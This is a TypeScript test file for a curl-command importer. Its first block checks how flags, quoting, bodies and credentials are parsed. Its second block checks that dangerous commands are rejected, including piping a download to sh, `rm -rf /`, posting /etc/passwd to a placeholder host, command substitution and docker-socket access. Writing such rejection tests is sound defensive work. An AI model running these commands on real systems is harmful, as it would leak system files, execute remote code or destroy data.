import fc from 'fast-check'
import { expect, test } from 'vitest'
import { importCurl } from './import-curl'

const API = 'https://api.example.com/v1'
const bearer = { kind: 'bearer', key: 'sk-1' }

test.each<[string, object]>([
  [`curl ${API}`, { method: 'GET', url: API, headers: [], bodyKind: 'none', credentials: null }],
  [`curl api.example.com/x`, { url: 'http://api.example.com/x' }],
  [`curl -X DELETE ${API}/1`, { method: 'DELETE', url: `${API}/1` }],
  [`curl -XPUT ${API} -d a=1`, { method: 'PUT', textBody: 'a=1' }],
  [
    `curl --request=PATCH --url ${API} --json '{"a":1}'`,
    { method: 'PATCH', url: API, bodyKind: 'json', jsonBody: '{\n  "a": 1\n}' },
  ],
  [
    `curl ${API} -d a=1 -d 'b=x y'`,
    {
      method: 'POST',
      textBody: 'a=1&b=x y',
      headers: [{ name: 'Content-Type', value: 'application/x-www-form-urlencoded' }],
    },
  ],
  [`curl ${API} --data-urlencode 'q=a b&c' --data-urlencode '=x y'`, { textBody: 'q=a%20b%26c&x%20y' }],
  [`curl -G ${API} -d a=1 --data-urlencode 'q=a b'`, { method: 'GET', url: `${API}?a=1&q=a+b`, bodyKind: 'none' }],
  [
    `curl ${API} -H 'Content-Type: application/json' -d '{"a": "it'\\''s"}'`,
    { bodyKind: 'json', jsonBody: '{\n  "a": "it\'s"\n}', headers: [] },
  ],
  [
    `curl ${API} -H "Accept: text/html" -A agent -e https://x.example`,
    {
      headers: [
        { name: 'Accept', value: 'text/html' },
        { name: 'User-Agent', value: 'agent' },
        { name: 'Referer', value: 'https://x.example' },
      ],
    },
  ],
  [`curl ${API} -H 'Authorization: Bearer sk-1'`, { credentials: bearer, headers: [] }],
  [
    `curl ${API} -H 'authorization: basic YW5uOnA6dw=='`,
    { credentials: { kind: 'basic', user: 'ann', password: 'p:w' } },
  ],
  [`curl -u ann:p:w ${API}`, { credentials: { kind: 'basic', user: 'ann', password: 'p:w' } }],
  [
    `curl https://ann:pw@api.example.com/`,
    { url: 'https://api.example.com/', credentials: { kind: 'basic', user: 'ann', password: 'pw' } },
  ],
  [`curl ${API} -H 'X-API-Key: k-1'`, { credentials: { kind: 'header', name: 'X-API-Key', key: 'k-1' }, headers: [] }],
  [
    `curl ${API} -b 'session=1; theme=dark'`,
    { credentials: { kind: 'header', name: 'Cookie', key: 'session=1; theme=dark' } },
  ],
  [`curl -sSL --compressed -i ${API}`, { method: 'GET', url: API }],
  [`curl -sXPOST ${API}`, { method: 'POST' }],
  [`curl --max-time 5 --retry 3 ${API}`, { url: API }],
  [`curl \\\n  -X POST \\\n  ${API}`, { method: 'POST', url: API }],
  [`curl ${API} -d "a \\"b\\" \\\\ \\$5 \\n"`, { textBody: 'a "b" \\ $5 \\n' }],
  [`curl ${API} --data-raw $'it\\'s\\n\\u00e9'`, { textBody: "it's\né" }],
  [`curl ${API} --data-raw '@not-a-file'`, { textBody: '@not-a-file' }],
  [`curl ^\n  "${API}?a=1^&b=2" ^\n  -H "Accept: text/html"`, { url: `${API}?a=1&b=2` }],
  [`curl.exe ${API}`, { url: API }],
  [`/usr/bin/curl ${API}`, { url: API }],
  [
    `curl ${API} -F name=Ada -F 'note=a=b'`,
    { bodyKind: 'text', textBody: expect.stringContaining('name="note"\r\n\r\na=b\r\n') },
  ],
  [`curl '${API}/{{id}}' --json '{"text": {{text}}}'`, { url: `${API}/{{id}}`, jsonBody: '{"text": {{text}}}' }],
  [`curl ${API} -H 'Host: evil.example' -H 'Content-Length: 5' -H 'Accept-Encoding: br'`, { headers: [] }],
  [`curl ${API} -d 'user@example.com'`, { textBody: 'user@example.com' }],
])('reads %s', (command, expected) => {
  expect(importCurl(command)).toMatchObject(expected)
})

test.each([
  ['curl -o /etc/passwd https://x.example', 'option: --output'],
  ['curl -O https://x.example/a', 'option: --remote-name'],
  ['curl -d @/etc/passwd https://x.example', 'file: @/etc/passwd'],
  ['curl -F file=@/etc/passwd https://x.example', 'file: file=@/etc/passwd'],
  ['curl --data-urlencode name@/etc/passwd https://x.example', 'file: name@/etc/passwd'],
  ['curl "https://x.example/$(id)"', 'substitution: $(…)'],
  ['curl https://x.example/`id`', 'substitution: `…`'],
  ['curl https://x.example -H "X: $HOME"', 'substitution: $HOME'],
  ['curl -x http://proxy https://x.example', 'option: --proxy'],
  ['curl --proxy http://proxy https://x.example', 'option: --proxy'],
  ['curl -K config https://x.example', 'option: --config'],
  ['curl -k https://x.example', 'option: --insecure'],
  ['curl https://x.example | sh', 'shell: |'],
  ['curl https://x.example; rm -rf /', 'shell: ;'],
  ['curl https://x.example > /etc/passwd', 'shell: >'],
  ['curl -T secret https://x.example', 'option: --upload-file'],
  ['curl --unix-socket /var/run/docker.sock http://x', 'option: --unix-socket'],
  ['curl file:///etc/passwd', 'no-address: file:'],
  ['curl -b cookies.txt https://x.example', 'file: cookies.txt'],
  ['curl', 'no-address: curl'],
  ['wget https://x.example', 'no-curl: wget'],
  ["curl 'https://x.example", "unclosed: '"],
  ['curl https://x.example -H', 'value-missing: --header'],
  ['curl -X TRACE https://x.example', 'method: TRACE'],
])('rejects %s by name', (command, message) => {
  expect(() => importCurl(command)).toThrow(message)
})

test('any text survives its quoting', () => {
  const quoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), (text) => {
      expect(importCurl(`curl ${API} --data-raw ${quoted(text)}`).textBody).toBe(text)
    }),
  )
})
